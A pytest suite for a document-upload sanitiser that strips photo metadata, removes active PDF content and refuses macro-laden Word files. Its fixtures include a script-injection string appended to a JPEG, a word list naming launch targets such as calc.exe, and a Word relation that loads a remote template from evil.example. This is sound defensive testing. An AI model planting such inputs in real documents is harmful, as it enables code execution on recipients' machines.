"""What is given out holds neither place nor script, and a signed PDF stays as it was signed."""

import io

import pi_heif
import pikepdf
import pytest
from PIL import Image
from tests.documents import papers

from motcua.documents.rules import cleaning, office, sniffing
from motcua.documents.rules.cleaning import pdfs
from motcua.documents.rules.policy import POLICY, UploadRefused

pytestmark = [pytest.mark.once, pytest.mark.shows("P3", "O4")]


def opened(cleaned):
    return Image.open(io.BytesIO(cleaned.content))


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_loses_where_and_with_what_it_was_taken(kind):
    cleaned = cleaning.clean(papers.photo(kind=kind), f"image/{kind.lower()}")

    assert cleaned.taken_out == ("place",)
    assert not opened(cleaned).getexif()
    assert b"Ch\xe1\xbb\xa7 m\xc3\xa1y" not in cleaned.content


def test_a_picture_taken_on_its_side_stands_upright():
    cleaned = cleaning.clean(papers.photo((40, 30), orientation=6), "image/jpeg")

    assert opened(cleaned).size == (30, 40)


def test_a_huge_picture_is_made_smaller():
    cleaned = cleaning.clean(papers.photo((6000, 3000), place=False), "image/jpeg")

    assert opened(cleaned).size == (POLICY.longest_side, POLICY.longest_side // 2)
    assert "pixels" in cleaned.taken_out


@pytest.mark.parametrize("mode", ["CMYK", "I;16", "RGBA", "P", "LA", "1"])
def test_every_kind_of_colour_can_be_drawn_anew(mode):
    out, kind = io.BytesIO(), "JPEG" if mode == "CMYK" else "PNG"
    Image.new(mode, (9, 9)).save(out, kind)

    assert opened(cleaning.clean(out.getvalue(), f"image/{kind.lower()}")).size == (9, 9)


def test_what_is_hidden_after_a_picture_stays_behind():
    cleaned = cleaning.clean(papers.photo() + b"<script>alert(1)</script>", "image/jpeg")

    assert b"script" not in cleaned.content


def test_a_broken_picture_cannot_be_given_out():
    with pytest.raises(cleaning.NotCleanable):
        cleaning.clean(papers.photo((400, 300))[:900], "image/jpeg")


@pytest.mark.parametrize(
    ("put_in", "reasons"),
    [
        (papers.script, ("action", "script")),
        (papers.launch, ("launch",)),
        (papers.attachment, ("file",)),
        (papers.xfa, ("xfa",)),
        (papers.film, ("media",)),
    ],
)
def test_what_acts_is_taken_out_of_a_pdf(put_in, reasons):
    came = papers.pdf(put_in)
    assert pdfs.look(came).acts == reasons

    cleaned = cleaning.clean(came, "application/pdf")

    assert cleaned.taken_out == reasons
    assert pdfs.look(cleaned.content) == pdfs.Look(pages=1, signed=False, acts=())
    for word in (b"app.alert", b"calc.exe", b"MZ program", b"RichMedia"):
        assert word not in unpacked(cleaned.content)


def test_links_to_web_pages_stay():
    cleaned = cleaning.clean(papers.pdf(papers.web_link), "application/pdf")

    assert cleaned.taken_out == ()
    assert b"dichvucong.gov.vn" in unpacked(cleaned.content)


def unpacked(content):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(
            out,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


def test_a_signed_pdf_stays_the_same_to_the_byte():
    signed = papers.pdf(papers.signature)

    cleaned = cleaning.clean(signed, "application/pdf")

    assert (cleaned.content, cleaned.signed, cleaned.taken_out) == (signed, True, ())


def test_a_signed_pdf_that_acts_is_not_taken_and_says_why():
    def both(document):
        papers.signature(document)
        papers.launch(document)

    with pytest.raises(UploadRefused, match="chữ ký số nhưng chứa mã tự chạy"):
        sniffing.media_type_of(papers.pdf(both), filename="quyet-dinh.pdf")


@pytest.mark.parametrize(
    "content",
    [
        papers.word(main=papers.WORD_MACRO),
        papers.word(parts={"word/vbaProject.bin": b"macro"}),
        papers.word(parts={"word/embeddings/oleObject1.bin": b"program"}),
        papers.word(
            parts={
                "word/_rels/settings.xml.rels": '<Relationship Type="http://x/relationships/'
                'attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
            }
        ),
    ],
)
def test_office_files_with_macros_are_not_taken(content):
    with pytest.raises(UploadRefused, match="macro"):
        sniffing.media_type_of(content, filename="don.docx")


def test_a_word_file_without_macros_is_taken():
    assert sniffing.media_type_of(papers.word(), filename="don.docx").endswith(".document")


def test_an_archive_that_unpacks_to_too_much_is_not_read(monkeypatch):
    monkeypatch.setattr(office, "_MOST_BYTES", 1000)

    with pytest.raises(UploadRefused, match="hỏng"):
        sniffing.media_type_of(papers.word(parts={"a": "0" * 2000}), filename="don.docx")


def test_a_picture_of_a_newer_telephone_becomes_one_that_every_browser_shows():
    heic = (papers.FOLDER / "grey.heic").read_bytes()
    assert pi_heif.open_heif(heic).size == (64, 48)
    assert sniffing.media_type_of(heic, filename="anh.heic") == "image/heic"

    cleaned = cleaning.clean(heic, "image/heic")

    assert (cleaned.media_type, opened(cleaned).size) == ("image/jpeg", (64, 48))
